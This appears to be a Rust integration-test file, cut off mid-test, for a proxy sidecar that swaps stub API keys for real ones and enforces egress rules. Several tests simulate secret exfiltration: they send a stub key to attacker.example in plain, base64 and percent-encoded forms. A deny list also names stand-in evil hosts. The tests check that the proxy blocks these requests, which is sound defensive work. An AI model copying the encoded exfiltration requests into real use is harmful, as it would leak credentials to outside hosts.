//! Real clients through the sidecar (SPEC §2.2): curl over HTTP/1.1 and h2, git smart HTTP, python3, WebSocket,
//! plus the sidecar's answers for egress policy, unreachable upstreams, garbage, its own ports, and its admin
//! port. See `support/` for the upstream stand-in and the sidecar launcher.

use crate::support;

use std::time::Duration;

use futures_util::{SinkExt as _, StreamExt as _};
use support::*;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

fn json_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| json_strings(x, out)),
        other => out.push(other.to_string()),
    }
}

/// JSON log lines of the sidecar in which every `needle` occurs among the string values (at any depth).
fn log_lines_with(sidecar: &Sidecar, needles: &[&str]) -> Vec<serde_json::Value> {
    sidecar
        .log_json()
        .into_iter()
        .filter(|v| {
            let mut s = Vec::new();
            json_strings(v, &mut s);
            needles.iter().all(|n| s.iter().any(|x| x == n || x.contains(n)))
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_header_swap_http1_and_h2() {
    let h = Harness::default_setup().await;
    for (proto, want_version) in [("--http1.1", "1.1"), ("--http2", "2")] {
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("-H")
            .arg(format!("x-proto: {proto}"))
            .arg("https://api.anthropic.com/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200);
        assert_eq!(out.http_version, want_version, "client-side protocol");
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .arg("-H")
            .arg(format!("Authorization: Bearer {GITHUB_STUB}"))
            .arg("-H")
            .arg(format!("x-proto: {proto}"))
            .arg("https://api.github.com/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200);
    }
    let reqs = h.upstream.requests_to("/echo");
    assert_eq!(reqs.len(), 4, "{reqs:#?}");
    for r in &reqs {
        assert!(!r.contains(ANTHROPIC_STUB) && !r.contains(GITHUB_STUB), "{r:#?}");
        match r.authority.as_deref() {
            Some("api.anthropic.com") => assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL)),
            Some("api.github.com") => assert_eq!(
                r.header("authorization"),
                Some(format!("Bearer {GITHUB_REAL}").as_str())
            ),
            other => panic!("unexpected authority {other:?}"),
        }
        assert!(r.sni.is_some(), "upstream TLS must carry SNI");
        assert_eq!(r.sni, r.authority, "upstream SNI names the target");
    }
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn query_swap_only_where_allowed() {
    let h = Harness::default_setup().await;
    for proto in ["--http1.1", "--http2"] {
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .arg(format!(
                "https://api.anthropic.com/echo?key={QUERY_STUB}&other=1&p={proto}"
            ))
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200);
    }
    let reqs = h.upstream.requests_to("/echo");
    assert_eq!(reqs.len(), 2);
    for (r, proto) in reqs.iter().zip(["--http1.1", "--http2"]) {
        assert_eq!(r.path, format!("/echo?key={QUERY_REAL}&other=1&p={proto}"));
    }
    // The audit path carries no query values: neither the stub nor the real value.
    let stdout = h.sidecar.stdout();
    assert!(!stdout.contains(QUERY_STUB), "stub in logs: {stdout}");
    h.assert_logs_clean();
}

/// A JSON body of about `size` bytes that contains the body stub at the start, the end and every ~4000 bytes
/// (so occurrences straddle any power-of-two chunk boundary sooner or later).
fn json_body_with_stub(size: usize) -> Vec<u8> {
    let mut s = format!("{{\"key\":\"{BODY_STUB}\",\"items\":[");
    let mut i = 0;
    while s.len() < size {
        if i % 37 == 0 {
            s.push_str(&format!("\"{BODY_STUB}\","));
        } else {
            s.push_str(&format!("\"item-{i:08}-abcdefghijklmnopqrstuvwxyz-0123456789\","));
        }
        i += 1;
    }
    s.push_str(&format!("\"{BODY_STUB}\"]}}"));
    s.into_bytes()
}

fn replace_all(hay: &[u8], from: &str, to: &str) -> Vec<u8> {
    String::from_utf8(hay.to_vec())
        .expect("utf8")
        .replace(from, to)
        .into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_swap_across_sizes_and_protocols() {
    let h = Harness::default_setup().await;
    for size in [100usize, 16 * 1024 + 7, 70_000, (1 << 20) + 3, 5 << 20] {
        let body = json_body_with_stub(size);
        let want = replace_all(&body, BODY_STUB, BODY_REAL);
        assert_ne!(body.len(), want.len());
        let file = h.sidecar.dir.path().join(format!("body-{size}.json"));
        std::fs::write(&file, &body).expect("write body");
        for proto in ["--http1.1", "--http2"] {
            let out = h
                .sidecar
                .curl()
                .args([proto, "-H", "content-type: application/json", "-H"])
                .arg(format!("x-case: {size}{proto}"))
                .arg("--data-binary")
                .arg(format!("@{}", file.display()))
                .arg("https://api.anthropic.com/upload")
                .run()
                .await
                .ok();
            assert_eq!(out.status, 200, "{size} {proto}: {}", out.body_text());
            let rec = h
                .upstream
                .requests()
                .into_iter()
                .find(|r| r.header("x-case") == Some(&format!("{size}{proto}")))
                .expect("upstream saw the upload");
            assert_eq!(
                rec.body_len,
                Some(want.len() as u64),
                "{size} {proto}: swapped body length"
            );
            assert_eq!(
                rec.body_sha256.as_deref(),
                Some(sha256_hex(&want).as_str()),
                "{size} {proto}: swapped body bytes"
            );
            if let Some(cl) = rec.header("content-length") {
                assert_eq!(cl, want.len().to_string(), "{size} {proto}: Content-Length fixed");
            }
            let v = out.json();
            assert_eq!(v["len"], want.len() as u64);
        }
    }
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_request_body_with_stub_is_not_rewritten() {
    let h = Harness::default_setup().await;
    let mut plain = format!("..{BODY_STUB}..").into_bytes();
    plain.extend((0..5000u32).map(|i| (i % 256) as u8));
    let body = zstd::stream::encode_all(&plain[..], 3).expect("zstd");
    let file = h.sidecar.dir.path().join("body.zst");
    std::fs::write(&file, &body).expect("write");
    let out = h
        .sidecar
        .curl()
        .args(["-H", "content-encoding: zstd", "--data-binary"])
        .arg(format!("@{}", file.display()))
        .arg("https://api.anthropic.com/upload")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    let rec = h.upstream.only_request_to("/upload");
    assert_eq!(
        rec.body_sha256,
        Some(sha256_hex(&body)),
        "compressed bodies pass untouched"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn response_echoing_the_real_value_is_redacted() {
    let h = Harness::default_setup().await;
    for proto in ["--http1.1", "--http2"] {
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("https://api.anthropic.com/echo")
            .run()
            .await
            .ok();
        let text = out.body_text();
        assert!(
            !text.contains(ANTHROPIC_REAL),
            "{proto}: real value reached the client: {text}"
        );
        assert!(text.contains(ANTHROPIC_STUB), "{proto}: redacted to the stub: {text}");
        if let Some(cl) = out.header("content-length") {
            assert_eq!(cl, out.body.len().to_string(), "{proto}: Content-Length matches");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stub_to_unbound_host_is_tunneled_unswapped_in_bound_hosts_mode() {
    let h = Harness::default_setup().await;
    // attacker.example has no secret: bound-hosts mode tunnels it untouched, so only the upstream's own
    // certificate verifies.
    let out = h
        .sidecar
        .curl()
        .arg("--cacert")
        .arg(h.upstream.ca_pem_path.to_string_lossy().to_string())
        .arg("-H")
        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("https://attacker.example/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_STUB), "not swapped");
    assert!(!h.upstream.saw(ANTHROPIC_REAL));
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bound_hosts_mode_shows_the_upstream_certificate_for_unbound_hosts() {
    let h = Harness::default_setup().await;
    // With only the sidecar CA trusted, the tunneled host's certificate must fail verification.
    let out = h.sidecar.curl().arg("https://attacker.example/echo").run().await;
    assert_eq!(
        out.exit, 60,
        "curl must reject the upstream's cert under the sidecar CA: {}",
        out.stderr
    );
    let proxy = format!("127.0.0.1:{}", h.sidecar.proxy.port());
    let s = run_prog(
        "openssl",
        &[
            "s_client",
            "-proxy",
            &proxy,
            "-connect",
            "attacker.example:443",
            "-servername",
            "attacker.example",
            "-showcerts",
        ],
        &[],
        None,
    )
    .await;
    assert!(
        s.stdout.contains("LAP Test Upstream CA"),
        "the client must see the upstream's real chain: {}",
        s.stdout
    );
    // And a bound host is intercepted: the sidecar's CA issued its leaf.
    let s = run_prog(
        "openssl",
        &[
            "s_client",
            "-proxy",
            &proxy,
            "-connect",
            "api.anthropic.com:443",
            "-servername",
            "api.anthropic.com",
            "-showcerts",
        ],
        &[],
        None,
    )
    .await;
    assert!(!s.stdout.contains("LAP Test Upstream CA"), "{}", s.stdout);
    let leaf = first_pem_cert(&s.stdout).expect("leaf");
    let leaf_path = h.sidecar.dir.path().join("bound-leaf.pem");
    std::fs::write(&leaf_path, leaf).expect("write");
    run_prog(
        "openssl",
        &[
            "verify",
            "-CAfile",
            &h.sidecar.ca_path.to_string_lossy(),
            &leaf_path.to_string_lossy(),
        ],
        &[],
        None,
    )
    .await
    .ok("bound host's leaf chains to the sidecar CA");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stub_to_unbound_host_is_blocked_when_intercepting_all() {
    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
    let out = h
        .sidecar
        .curl()
        .arg("-H")
        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("https://attacker.example/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 403, "{}", out.body_text());
    assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"));
    let body = out.json();
    assert!(
        body.to_string().contains("ANTHROPIC_API_KEY"),
        "the answer names the secret: {body}"
    );
    assert!(!body.to_string().contains(ANTHROPIC_REAL));
    assert!(!h.upstream.saw(ANTHROPIC_REAL));
    assert!(
        h.upstream.requests_to("/echo").is_empty(),
        "the request must not reach attacker.example: {:#?}",
        h.upstream.requests()
    );
    assert!(
        !log_lines_with(&h.sidecar, &["stub-exfiltration", "attacker.example"]).is_empty(),
        "an audit event for the block: {}",
        h.sidecar.stdout()
    );
    // A request without stubs to the same host still works (intercepted, sidecar CA).
    let out = h.sidecar.curl().arg("https://attacker.example/echo").run().await.ok();
    assert_eq!(out.status, 200);
    h.assert_logs_clean();
}

/// W09: `intercept = "all"`, the stub base64-encoded (and percent-encoded, and as a header name)
/// toward an unbound host: 403 `stub-exfiltration`, nothing reaches the host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_stubs_to_an_unbound_host_are_blocked() {
    use base64::Engine as _;
    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
    let b64 = base64::engine::general_purpose::STANDARD.encode(ANTHROPIC_STUB);
    let wrapped = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{{\"k\":\"{ANTHROPIC_STUB}\"}}"));
    let every_byte: String = ANTHROPIC_STUB.bytes().map(|b| format!("%{b:02X}")).collect();
    for (header, url) in [
        (format!("x-data: {b64}"), "https://attacker.example/echo".to_owned()),
        (format!("x-data: {wrapped}"), "https://attacker.example/echo".to_owned()),
        (
            "x-data: plain".to_owned(),
            format!("https://attacker.example/echo?d={every_byte}"),
        ),
        (
            format!("x-{ANTHROPIC_STUB}: 1"),
            "https://attacker.example/echo".to_owned(),
        ),
    ] {
        let out = h.sidecar.curl().arg("-H").arg(&header).arg(&url).run().await.ok();
        assert_eq!(out.status, 403, "{header} {url}: {}", out.body_text());
        assert_eq!(
            out.header("x-vault-blocked"),
            Some("stub-exfiltration"),
            "{header} {url}"
        );
    }
    assert!(
        h.upstream.requests_to("/echo").is_empty(),
        "an encoded stub reached attacker.example: {:#?}",
        h.upstream.requests()
    );
    // Ordinary base64 still goes through.
    let ordinary = base64::engine::general_purpose::STANDARD.encode("nothing secret here");
    let out = h
        .sidecar
        .curl()
        .arg("-H")
        .arg(format!("x-data: {ordinary}"))
        .arg("https://attacker.example/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_line_per_intercepted_request() {
    let h = Harness::default_setup().await;
    let out = h
        .sidecar
        .curl()
        .arg("-H")
        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("https://api.anthropic.com/echo?key=QUERY_VALUE_NOT_LOGGED")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200);
    let lines = log_lines_with(&h.sidecar, &["api.anthropic.com", "/echo", "ANTHROPIC_API_KEY"]);
    assert_eq!(
        lines.len(),
        1,
        "exactly one audit line naming host, path and injected secret: {}",
        h.sidecar.stdout()
    );
    // The line has the shape of the event in /interceptions, inside the log's envelope.
    let event = &lines[0];
    assert_eq!(event["target"], "audit", "{event}");
    assert_eq!(event["level"], "INFO", "{event}");
    assert_eq!(event["method"], "GET", "{event}");
    assert_eq!(event["host"], "api.anthropic.com", "{event}");
    assert_eq!(event["port"], 443, "{event}");
    assert_eq!(event["path"], "/echo?key=", "{event}");
    assert_eq!(event["status"], 200, "{event}");
    assert_eq!(
        event["injected"],
        serde_json::json!([{"secret": "ANTHROPIC_API_KEY", "location": "header"}]),
        "{event}"
    );
    assert!(event["bytes_down"].as_u64().is_some_and(|n| n > 0), "{event}");
    assert!(event["time"].as_str().is_some_and(|t| t.ends_with('Z')), "{event}");
    let stdout = h.sidecar.stdout();
    assert!(
        !stdout.contains("QUERY_VALUE_NOT_LOGGED"),
        "query values logged: {stdout}"
    );
    assert!(!stdout.contains(ANTHROPIC_STUB), "stub logged: {stdout}");
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_clone_and_push_with_stub_in_url() {
    let h = Harness::default_setup().await;
    let work = tempfile::tempdir().expect("tempdir");
    let env = h.sidecar.client_env();
    let url = format!("https://x-access-token:{GITHUB_STUB}@github.com/owner/repo.git");
    run_git(&["clone", "-q", &url, "clone"], work.path(), &env)
        .await
        .ok("git clone through the sidecar");
    let repo = work.path().join("clone");
    assert_eq!(
        std::fs::read_to_string(repo.join("README.md")).expect("cloned README"),
        "seed commit from the upstream stand-in\n"
    );
    std::fs::write(repo.join("pushed.txt"), "through the vault\n").expect("write");
    run_git(&["add", "pushed.txt"], &repo, &env).await.ok("git add");
    run_git(&["commit", "-q", "-m", "pushed via sidecar"], &repo, &env)
        .await
        .ok("git commit");
    run_git(&["push", "-q", "origin", "main"], &repo, &env)
        .await
        .ok("git push through the sidecar");
    assert!(
        h.upstream.git_log().await.contains("pushed via sidecar"),
        "the push landed upstream"
    );
    assert!(h
        .upstream
        .requests()
        .iter()
        .any(|r| r.path.contains("git-receive-pack")));
    assert!(!h.upstream.saw(GITHUB_STUB), "stub reached github.com");
    h.assert_logs_clean();
}

const PY_STRICT: &str = r#"
import http.client, json, ssl, sys
proxy_host, proxy_port, ca, stub = sys.argv[1:5]
ctx = ssl.create_default_context(cafile=ca)
ctx.verify_flags |= ssl.VERIFY_X509_STRICT | ssl.VERIFY_X509_PARTIAL_CHAIN
c = http.client.HTTPSConnection(proxy_host, int(proxy_port), context=ctx, timeout=60)
c.set_tunnel("api.github.com", 443)
out = []
for i in range(3):  # one kept-alive connection, three requests
    c.request("POST", "/upload", body=b"x" * (1000 * (i + 1)),
              headers={"Authorization": "Bearer " + stub, "Content-Type": "application/octet-stream"})
    r = c.getresponse()
    out.append({"status": r.status, "body": json.loads(r.read())})
print(json.dumps(out))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_strict_ssl_client_keepalive_swaps() {
    let h = Harness::default_setup().await;
    let out = run_python(
        PY_STRICT,
        &[
            "127.0.0.1",
            &h.sidecar.proxy.port().to_string(),
            &h.sidecar.ca_path.to_string_lossy(),
            GITHUB_STUB,
        ],
        &[],
    )
    .await
    .ok("python3 strict client");
    let v: serde_json::Value = serde_json::from_str(out.stdout.trim()).expect("json");
    for (i, item) in v.as_array().expect("array").iter().enumerate() {
        assert_eq!(item["status"], 200);
        assert_eq!(item["body"]["len"], 1000 * (i as u64 + 1));
    }
    let reqs = h.upstream.requests_to("/upload");
    assert_eq!(reqs.len(), 3);
    for r in reqs {
        assert_eq!(
            r.header("authorization"),
            Some(format!("Bearer {GITHUB_REAL}").as_str())
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sse_events_arrive_one_by_one() {
    let h = Harness::default_setup().await;
    let seen = curl_sse(
        &h.sidecar,
        "https://api.anthropic.com/sse?events=5&interval_ms=400",
        &[],
        Duration::from_secs(60),
    )
    .await;
    let ns: Vec<u64> = seen.iter().map(|e| e.n).collect();
    assert_eq!(ns, vec![1, 2, 3, 4, 5]);
    assert!(
        seen[0].recv_ms < seen[4].sent_ms,
        "the first event must arrive before the last is sent: {seen:?}"
    );
    for w in seen.windows(2) {
        assert!(w[0].recv_ms <= w[1].recv_ms);
        assert!(
            w[0].recv_ms < w[1].sent_ms,
            "event {} held back until event {} was sent: {seen:?}",
            w[0].n,
            w[1].n
        );
    }
}

/// W04: a bound host reflects the real value in a WebSocket text message and in a binary message
/// whose two frames split it; the client receives the stub in both. The client's offer of
/// `permessage-deflate` never reaches the upstream (a compressed frame would hide the value).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w04_websocket_messages_reflecting_the_real_value_reach_the_client_as_stubs() {
    use tokio_tungstenite::tungstenite::Message;
    let h = Harness::default_setup().await;
    let mut ws = ws_connect(
        &h.sidecar,
        "api.anthropic.com",
        "/ws-reflect",
        &[
            ("x-api-key", ANTHROPIC_STUB),
            ("sec-websocket-extensions", "permessage-deflate"),
        ],
    )
    .await;
    let mut messages = Vec::new();
    while let Some(msg) = within(Duration::from_secs(10), "a message", ws.next()).await {
        match msg.expect("a valid WebSocket message") {
            Message::Text(t) => messages.push(t.as_bytes().to_vec()),
            Message::Binary(b) => messages.push(b.to_vec()),
            Message::Close(_) => break,
            _ => {}
        }
    }
    let text = |b: &[u8]| String::from_utf8_lossy(b).to_string();
    let got: Vec<String> = messages.iter().map(|m| text(m)).collect();
    assert_eq!(
        got,
        vec![
            format!("{{\"echo\":\"{ANTHROPIC_STUB}\"}}"),
            format!("bin:{ANTHROPIC_STUB}:end")
        ],
        "both messages carry the stub"
    );
    assert!(got.iter().all(|m| !m.contains(ANTHROPIC_REAL)));
    let rec = h.upstream.only_request_to("/ws-reflect");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL), "the stub was swapped");
    assert_eq!(
        rec.header("sec-websocket-extensions"),
        None,
        "no extension offered upstream"
    );
}

/// W03: over h2 (and h1 with `TE: trailers`), the upstream reflects the real value in a response
/// trailer; the client's trailer holds the stub.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w03_a_trailer_reflecting_the_real_value_reaches_the_client_as_the_stub() {
    let h = Harness::default_setup().await;
    for proto in ["--http2", "--http1.1"] {
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}"), "-H", "te: trailers"])
            .arg("https://api.anthropic.com/trailers")
            .run()
            .await
            .ok();
        assert_eq!(out.body_text(), "body before trailers\n", "{proto}");
        // curl's header dump holds the trailers too, after the head.
        let heads = out.header_dump.to_ascii_lowercase();
        assert!(
            !heads.contains(&ANTHROPIC_REAL.to_ascii_lowercase()),
            "{proto}: the real value reached the client: {heads}"
        );
        assert!(
            heads.contains(&format!("x-echo: {ANTHROPIC_STUB}").to_ascii_lowercase()),
            "{proto}: the trailer carries the stub: {heads}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_through_tunnel_with_swapped_handshake() {
    use tokio_tungstenite::tungstenite::Message;
    let h = Harness::default_setup().await;
    let mut ws = ws_connect(&h.sidecar, "api.anthropic.com", "/ws", &[("x-api-key", ANTHROPIC_STUB)]).await;
    for i in 0..5 {
        let msg = format!("frame-{i}-{}", "z".repeat(i * 1000));
        ws.send(Message::text(msg.clone())).await.expect("send");
        let back = within(Duration::from_secs(10), "echo frame", ws.next())
            .await
            .expect("a frame")
            .expect("frame ok");
        assert_eq!(back.into_text().expect("text").as_str(), msg);
    }
    ws.send(Message::binary(vec![0u8, 1, 2, 255]))
        .await
        .expect("send binary");
    let back = within(Duration::from_secs(10), "echo binary", ws.next())
        .await
        .expect("a frame")
        .expect("frame ok");
    assert_eq!(back.into_data().to_vec(), vec![0u8, 1, 2, 255]);
    let _ = ws.close(None).await;
    let rec = h.upstream.only_request_to("/ws");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
    assert_eq!(
        rec.header("upgrade").map(str::to_ascii_lowercase),
        Some("websocket".into())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_form_http_is_forwarded_and_never_carries_a_stub() {
    let h = Harness::default_setup().await;
    let out = h
        .sidecar
        .curl()
        .args(["-H", "Proxy-Authorization: Basic Zm9vOmJhcg==", "-H", "x-plain: 1"])
        .arg("http://api.anthropic.com/echo?x=1")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.scheme, "http");
    assert_eq!(rec.path, "/echo?x=1", "origin-form upstream");
    assert_eq!(rec.header("x-plain"), Some("1"));
    assert!(
        rec.header("proxy-authorization").is_none(),
        "Proxy-Authorization is never forwarded"
    );
    // Stubs are never swapped over cleartext, and one is not sent as a stub either: the
    // tripwire refuses it (more cases in `tripwire`).
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("http://api.anthropic.com/echo?x=2")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 403, "{}", out.body_text());
    assert_eq!(h.upstream.requests_to("/echo").len(), 1);
    assert!(!h.upstream.saw(ANTHROPIC_REAL) && !h.upstream.saw(ANTHROPIC_STUB));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_deny_is_403_egress_policy() {
    let h = Harness::start(Alpn::Both, |c| {
        c.egress_deny = vec!["attacker.example".into(), "*.evil.example".into()];
    })
    .await;
    for target in ["attacker.example:443", "deep.sub.evil.example:443"] {
        let (_s, reply) = connect_raw(h.sidecar.proxy, target).await;
        assert_eq!(reply.status, 403, "CONNECT {target}: {}", reply.head);
        assert_eq!(
            reply.header("x-vault-blocked"),
            Some("egress-policy"),
            "CONNECT {target}: {}",
            reply.head
        );
    }
    let out = h.sidecar.curl().arg("http://attacker.example/echo").run().await.ok();
    assert_eq!(out.status, 403);
    assert_eq!(out.header("x-vault-blocked"), Some("egress-policy"));
    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
    // Allowed hosts still work.
    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
    assert_eq!(out.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_allow_list_admits_bound_hosts_only_plus_listed() {
    let h = Harness::start(Alpn::Both, |c| {
        c.egress_allow = vec!["api.github.com".into()];
    })
    .await;
    let (_s, reply) = connect_raw(h.sidecar.proxy, "attacker.example:443").await;
    assert_eq!(reply.status, 403, "{}", reply.head);
    assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"));
    // Bound hosts are added to the allow list automatically.
    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
    assert_eq!(out.status, 200);
}

/// CONNECT (or intercepted request) answered with an error: returns the final error response whichever
/// leg produced it.
async fn error_answer(sidecar: &Sidecar, host: &str) -> RawResponse {
    let (s, reply) = connect_raw(sidecar.proxy, &format!("{host}:443")).await;
    if reply.status != 200 {
        return reply;
    }
    let tls = tls_over(s, host, &sidecar.ca_path, &["http/1.1"])
        .await
        .expect("TLS with the sidecar");
    let mut conn = tokio::io::BufReader::new(tls);
    conn.get_mut()
        .write_all(format!("GET /echo HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes())
        .await
        .expect("write");
    within(Duration::from_secs(40), "error answer", read_response(&mut conn, false))
        .await
        .expect("an HTTP answer, not a silent close")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreachable_upstream_is_502_with_kind_and_json() {
    let upstream = Upstream::start(UpstreamOptions {
        alpn: Alpn::Both,
        git_token: None,
    })
    .await;
    let dead = free_port();
    let mut cfg = SidecarConfig::standard(&upstream);
    for (k, v) in cfg.resolve.iter_mut() {
        if k == "api.anthropic.com:443" {
            *v = dead.to_string();
        }
    }
    let sidecar = Sidecar::start(cfg).await;
    let resp = error_answer(&sidecar, "api.anthropic.com").await;
    assert_eq!(resp.status, 502, "{}{}", resp.head, resp.body_text());
    let kind = resp.header("x-vault-error").expect("X-Vault-Error header");
    assert!(!kind.is_empty());
    let body: serde_json::Value =
        serde_json::from_slice(&resp.body).unwrap_or_else(|e| panic!("JSON body ({e}): {}", resp.body_text()));
    assert!(
        body.to_string().contains("api.anthropic.com"),
        "the body names the host: {body}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn untrusted_upstream_certificate_is_502() {
    let upstream = Upstream::start(UpstreamOptions {
        alpn: Alpn::Both,
        git_token: None,
    })
    .await;
    let mut cfg = SidecarConfig::standard(&upstream);
    cfg.upstream_ca_files.clear();
    let sidecar = Sidecar::start(cfg).await;
    let resp = error_answer(&sidecar, "api.anthropic.com").await;
    assert_eq!(resp.status, 502, "{}{}", resp.head, resp.body_text());
    assert!(resp.header("x-vault-error").is_some(), "{}", resp.head);
    assert!(resp.body_text().contains("api.anthropic.com"), "{}", resp.body_text());
    assert!(
        upstream.requests().is_empty(),
        "no request over an unverified connection"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_to_own_ports_is_refused() {
    let h = Harness::default_setup().await;
    for target in [
        format!("127.0.0.1:{}", h.sidecar.admin.port()),
        format!("127.0.0.1:{}", h.sidecar.proxy.port()),
        format!("localhost:{}", h.sidecar.admin.port()),
    ] {
        let (_s, reply) = connect_raw(h.sidecar.proxy, &target).await;
        assert!(
            (400..500).contains(&reply.status),
            "CONNECT {target} must be refused, got: {}",
            reply.head
        );
    }
    // Absolute-form to the admin port too.
    let out = h
        .sidecar
        .curl()
        .arg(format!("http://127.0.0.1:{}/ca.pem", h.sidecar.admin.port()))
        .run()
        .await;
    assert!((400..500).contains(&out.status), "{out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_closes_only_that_connection() {
    let h = Harness::default_setup().await;
    // A long-lived tunnel opened before the garbage must survive it.
    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let mut kept = tokio::io::BufReader::new(tls);

    for garbage in [
        &b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage-tls-to-a-plain-port\r\n\r\n"[..],
        &b"NOT HTTP AT ALL \x00\x01\x02\xff\r\n\r\n"[..],
        &b"GET\r\n\r\n"[..],
    ] {
        let mut s = tokio::net::TcpStream::connect(h.sidecar.proxy).await.expect("connect");
        s.write_all(garbage).await.expect("write garbage");
        let mut buf = Vec::new();
        let r = within(
            Duration::from_secs(15),
            "the sidecar closes a garbage connection",
            s.read_to_end(&mut buf),
        )
        .await;
        let text = String::from_utf8_lossy(&buf);
        assert!(
            r.is_err() || buf.is_empty() || text.starts_with("HTTP/1.1 400") || text.starts_with("HTTP/1.0 400"),
            "garbage answered with: {text:?}"
        );
    }
    // Garbage inside an intercepted TLS tunnel.
    let (mut s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
    assert_eq!(reply.status, 200);
    s.get_mut()
        .write_all(b"this is not a TLS client hello\r\n\r\n")
        .await
        .expect("write");
    let mut buf = Vec::new();
    let _ = within(
        Duration::from_secs(15),
        "tunnel garbage closes",
        s.read_to_end(&mut buf),
    )
    .await;

    // Everything else is unaffected.
    kept.get_mut()
        .write_all(b"GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
        .await
        .expect("write");
    let resp = within(Duration::from_secs(20), "kept tunnel", read_response(&mut kept, false))
        .await
        .expect("response on the earlier tunnel");
    assert_eq!(resp.status, 200);
    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
    assert_eq!(out.status, 200);
    assert_eq!(h.sidecar.admin_get("/healthz").await.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_endpoints() {
    let h = Harness::default_setup().await;
    assert_eq!(h.sidecar.admin_get("/healthz").await.status, 200);
    assert_eq!(h.sidecar.admin_get("/readyz").await.status, 200);
    let ca = h.sidecar.admin_get("/ca.pem").await;
    assert_eq!(ca.status, 200);
    let file = h.sidecar.ca_pem();
    assert!(file.starts_with("-----BEGIN CERTIFICATE-----"), "{file}");
    assert_eq!(ca.body_text(), file, "/ca.pem serves the file written to ca_cert_path");
    let mode = std::fs::metadata(&h.sidecar.ca_path)
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
        .expect("stat CA");
    assert_eq!(mode, 0o644, "CA certificate written 0644");
    assert!(!file.contains("PRIVATE KEY"));
    // Metrics count an injection by secret name after one swapped request.
    h.sidecar
        .curl()
        .arg("-H")
